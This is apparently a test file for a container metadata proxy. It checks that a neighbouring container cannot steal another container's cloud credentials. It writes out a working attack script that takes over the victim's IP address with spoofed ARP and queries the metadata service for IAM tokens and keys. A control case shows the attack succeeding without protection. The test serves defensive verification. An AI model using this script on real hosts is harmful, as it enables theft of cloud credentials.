import { setTimeout as sleep } from "node:timers/promises";
import t from "tap";
import { leakMarker } from "../support/aws/account.ts";
import { type AwsSide, startAws } from "../support/host/aws.ts";
import { bootFor } from "../support/host/boot.ts";
import { containerEngine, type Engine } from "../support/host/engine.ts";
import { node, repository, type TestHost } from "../support/host/host.ts";
import { hostProxy } from "../support/host/proxy.ts";
import { canBoot } from "../support/host/requirements.ts";
import { startProxy } from "../support/proxy.ts";

/**
 * A container with CAP_NET_RAW and CAP_NET_ADMIN on the victim's bridge takes over the victim's address and
 * requests its credentials, while the victim runs, restarts and is removed. As a control, the same attack
 * without the proof of identity succeeds.
 */
const attackSeconds = Number(process.env.ATTACK_SECONDS ?? 60);
const account = "123456789012";
const roleArn = (name: string) => `arn:aws:iam::${account}:role/containers/${name}`;
const config = (identityProof: "socket" | "off") => ({
  aliasToARN: { victim: roleArn("Victim"), attacker: roleArn("Attacker") },
  identityProof,
});
const victimAddress = "172.31.0.10";
const base = "http://169.254.169.254/latest";
const list = `${base}/meta-data/iam/security-credentials/`;

const startVictim = (docker: Engine) =>
  docker.run({
    name: "victim",
    network: "shared",
    labels: { "ec2metaproxy.RoleAlias": "victim" },
    args: ["--ip", victimAddress],
  });

/** The victim's own requests: prints its token and its credentials. */
const requestAsVictim = (docker: Engine) =>
  docker.inNetwork(
    "victim",
    `T=$(curl -s -m 3 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 300' ${base}/api/token)
     echo "$T"; curl -s -m 3 -H "X-aws-ec2-metadata-token: $T" ${list}Victim`,
    { check: false },
  );

/** One round of the attack. Every answer is printed, and becomes part of `loot`. */
const attack = (stolenToken: string) => `
  ip address add ${victimAddress}/16 dev eth0 2>/dev/null
  arping -c 1 -w 0.05 -U -i eth0 -S ${victimAddress} ${victimAddress} >/dev/null 2>&1
  as="curl -s -m 1 --interface ${victimAddress}"
  own="curl -s -m 1 --interface 172.31.0.20"
  T=$($as -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 300' ${base}/api/token)
  echo "token: $T"
  for name in Victim ""; do
    $as -H "X-aws-ec2-metadata-token: $T" ${list}$name
    $as -H "X-aws-ec2-metadata-token: ${stolenToken}" ${list}$name
    $own -H "X-aws-ec2-metadata-token: ${stolenToken}" ${list}$name
    $as ${list}$name
  done
  $as -H "X-aws-ec2-metadata-token: ${stolenToken}" ${base}/meta-data/iam/info`;

async function secretsOf(aws: AwsSide, role: string): Promise<string[]> {
  const all = (await aws.secrets()).filter(({ arn }) => arn.includes(`assumed-role/${role}/`));
  return all.flatMap(({ accessKeyId, secretAccessKey, sessionToken }) => [
    accessKeyId,
    secretAccessKey,
    sessionToken,
  ]);
}

async function attackFor(
  seconds: number,
  docker: Engine,
  stolenToken: string,
): Promise<{ loot: string; rounds: number }> {
  const loop = `end=$(($(date +%s) + ${seconds})); while [ "$(date +%s)" -lt $end ]; do ${attack(stolenToken)}; done`;
  const timeoutMs = (seconds + 60) * 1000;
  const { stdout: loot } = await docker.inNetwork("attacker", loop, { check: false, timeoutMs });
  return { loot, rounds: loot.split("token: ").length - 1 };
}

/**
 * What happens to the victim during the attack: it is restarted, stopped, started, paused, removed and run
 * again at the same address.
 */
async function disturb(docker: Engine, isOver: () => boolean): Promise<void> {
  const steps = [
    () => docker.call("restart", "--time=0", "victim"),
    () => docker.call("stop", "--time=0", "victim"),
    () => docker.call("start", "victim"),
    () => docker.call("pause", "victim"),
    () => docker.call("unpause", "victim"),
    () => docker.remove("victim"),
    () => startVictim(docker),
  ];
  for (let step = 0; !isOver(); step += 1) {
    // The engine may fail to start the victim while the attacker has its address. The attack goes on.
    await steps[step % steps.length]?.().catch(() => {});
    await sleep(700);
  }
}

async function prepare(host: TestHost): Promise<{ aws: AwsSide; docker: Engine }> {
  const aws = await startAws(host);
  const docker = await containerEngine(host, "docker");
  await host.exec([node, `${repository}/src/main.ts`, "firewall", "apply"]);
  await docker.call("network", "create", "--subnet=172.31.0.0/16", "shared");
  await startVictim(docker);
  await docker.run({
    name: "attacker",
    network: "shared",
    labels: { "ec2metaproxy.RoleAlias": "attacker" },
    args: ["--ip", "172.31.0.20", "--cap-add=NET_ADMIN", "--cap-add=NET_RAW"],
  });
  return { aws, docker };
}

if (canBoot(t)) {
  t.test(
    "a neighbour that takes over a container's address gets none of its credentials; without the proof it gets them",
    async (t) => {
      const host = await bootFor(t, { suite: "bookworm" });
      const { aws, docker } = await prepare(host);
      const proxy = await startProxy(hostProxy(host), config("socket"));

      await host.waitFor(async () => (await requestAsVictim(docker)).stdout.includes("AccessKeyId"), {
        timeoutMs: 15_000,
        what: "the victim to get its own credentials",
      });
      const stolen = (await requestAsVictim(docker)).stdout.split("\n", 1)[0] ?? "";
      t.ok(stolen.length > 20, "the attacker has a token of the victim's");

      let isOver = false;
      const disturbing = disturb(docker, () => isOver);
      const { loot, rounds } = await attackFor(attackSeconds, docker, stolen);
      isOver = true;
      await disturbing;
      t.comment(`${rounds} rounds, ${loot.length} bytes of answers`);
      const secrets = await secretsOf(aws, "Victim");
      t.ok(
        secrets.length > 0 && rounds > 3,
        "the victim had credentials, and the attack ran for several rounds",
      );
      t.same(
        secrets.filter((secret) => loot.includes(secret)),
        [],
        "no byte of the victim's credentials",
      );
      t.notMatch(loot, leakMarker, "nothing of the host's credentials");
      t.notMatch(loot, /token: \S{20,}/, "no token in the victim's name");
      const journal = await proxy.journal(20_000);
      t.match(journal, /no-such-socket|container-gone/, "the log has the reason for the refusal");

      await t.test("the victim is served again when the attacker releases the address", async () => {
        await docker.inNetwork(
          "attacker",
          `ip address del ${victimAddress}/16 dev eth0; ip neigh flush all`,
          { check: false },
        );
        await docker.remove("victim").catch(() => {});
        await startVictim(docker);
        await docker.inNetwork("victim", `arping -c 2 -U -i eth0 -S ${victimAddress} ${victimAddress}`, {
          check: false,
        });
        await host.exec("ip neigh flush all", { check: false });
        await host.waitFor(async () => (await requestAsVictim(docker)).stdout.includes("AccessKeyId"), {
          timeoutMs: 30_000,
          what: "the victim to be served",
        });
      });

      await t.test(
        "control: with identityProof off the same attack gets the victim's credentials",
        async (t) => {
          await proxy.writeConfig(config("off"));
          await proxy.restart();
          await requestAsVictim(docker);
          let caught: string[] = [];
          for (let tries = 0; tries < 10 && caught.length === 0; tries += 1) {
            const { loot } = await attackFor(2, docker, stolen);
            const secrets = await secretsOf(aws, "Victim");
            caught = secrets.filter((secret) => loot.includes(secret));
          }
          t.ok(caught.length > 0, "the attack works");
        },
      );
    },
  );
}
